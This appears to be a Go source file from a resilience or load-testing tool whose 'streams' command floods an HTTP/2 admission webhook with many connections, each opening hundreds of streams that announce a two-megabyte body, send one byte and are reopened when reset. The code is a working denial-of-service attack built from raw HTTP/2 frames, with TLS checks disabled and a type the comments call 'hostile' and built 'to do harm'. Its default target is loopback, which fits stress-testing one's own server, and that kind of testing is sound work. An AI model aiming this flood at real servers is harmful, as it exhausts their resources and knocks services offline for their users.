package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net/url"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// streams floods admission with HTTP/2 streams that each announce a large body
// and send one byte of it.
func streams(ctx context.Context, args []string, out io.Writer) error {
	f := newFlags("streams", "https://127.0.0.1:8443/admission/validate")
	connections := f.Int("connections", 100, "connections")
	each := f.Int("streams", 500, "streams of each, whatever the server allows")
	announced := f.Int("announced", 2_000_000, "bytes that each stream announces")
	sent := f.Int("sent", 1, "bytes that each stream sends, 16,000 at most")
	again := f.Bool("again", false, "open another stream for each that the server ends")
	u, err := f.parse(args)
	if err != nil {
		return err
	}
	return f.run(ctx, out, func(ctx context.Context) (string, error) {
		ctx, cancel := context.WithTimeout(ctx, *f.length)
		defer cancel()
		var opened, ended, lost atomic.Int64
		var wg sync.WaitGroup
		for range *connections {
			wg.Go(func() {
				h := hostile{target: u, announced: *announced, sent: min(*sent, 16_000), again: *again, opened: &opened, ended: &ended}
				if h.flood(ctx, *each) != nil {
					lost.Add(1)
				}
			})
		}
		wg.Wait()
		return fmt.Sprintf("streams: %d opened on %d connections, %d ended and %d connections closed by the server", opened.Load(), *connections, ended.Load(), lost.Load()), nil
	})
}

// hostile is one connection that speaks just enough HTTP/2 (RFC 9113) to do
// harm: no client library would exceed what the server allows.
type hostile struct {
	target        *url.URL
	announced     int
	sent          int
	again         bool
	opened, ended *atomic.Int64
}

const (
	frameData, frameHeaders, frameReset, frameSettings, frameGoAway = 0, 1, 3, 4, 7
	flagEndStream, flagEndHeaders, flagAck                          = 1, 4, 1
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = append(b, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// headers is a request in HPACK (RFC 7541) without compression: indexes of the
// static table, literals without indexing.
func (h *hostile) headers() []byte {
	text := func(b []byte, s string) []byte { return append(append(b, byte(len(s))), s...) }
	b := []byte{0x83, 0x87} // POST, https
	b = text(append(b, 0x01), h.target.Host)
	b = text(append(b, 0x04), h.target.Path)
	b = text(append(b, 0x0f, 0x10), "application/json")
	return text(append(b, 0x0f, 0x0d), strconv.Itoa(h.announced))
}

// flood opens n streams and holds them until ctx ends; an error means that the
// server has closed the connection.
func (h *hostile) flood(ctx context.Context, n int) error {
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}} //nolint:gosec // loopback
	conn, err := dialer.DialContext(ctx, "tcp", h.target.Host)
	if err != nil {
		return err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Now()) })
	defer stop()
	var mu sync.Mutex
	next := uint32(1)
	open := func() error {
		mu.Lock()
		defer mu.Unlock()
		b := frame(frameHeaders, flagEndHeaders, next, h.headers())
		b = append(b, frame(frameData, 0, next, make([]byte, h.sent))...)
		next += 2
		h.opened.Add(1)
		_, err := conn.Write(b)
		return err
	}
	if _, err := io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+string(frame(frameSettings, 0, 0, nil))); err != nil {
		return err
	}
	go func() {
		for range n {
			if open() != nil {
				return
			}
		}
	}()
	err = h.listen(conn, func(b []byte) { mu.Lock(); _, _ = conn.Write(b); mu.Unlock() }, open)
	if ctx.Err() != nil {
		return nil
	}
	return err
}

// listen reads frames until the connection ends.
func (h *hostile) listen(conn io.Reader, write func([]byte), open func() error) error {
	r := bufio.NewReader(conn)
	for {
		head := make([]byte, 9)
		if _, err := io.ReadFull(r, head); err != nil {
			return err
		}
		if _, err := r.Discard(int(binary.BigEndian.Uint32(head) >> 8)); err != nil {
			return err
		}
		kind, flags := head[3], head[4]
		switch {
		case kind == frameSettings && flags&flagAck == 0:
			write(frame(frameSettings, flagAck, 0, nil))
		case kind == frameGoAway:
			return io.EOF
		case kind == frameReset, (kind == frameHeaders || kind == frameData) && flags&flagEndStream != 0:
			h.ended.Add(1)
			if h.again && kind == frameReset {
				if err := open(); err != nil {
					return err
				}
			}
		}
	}
}
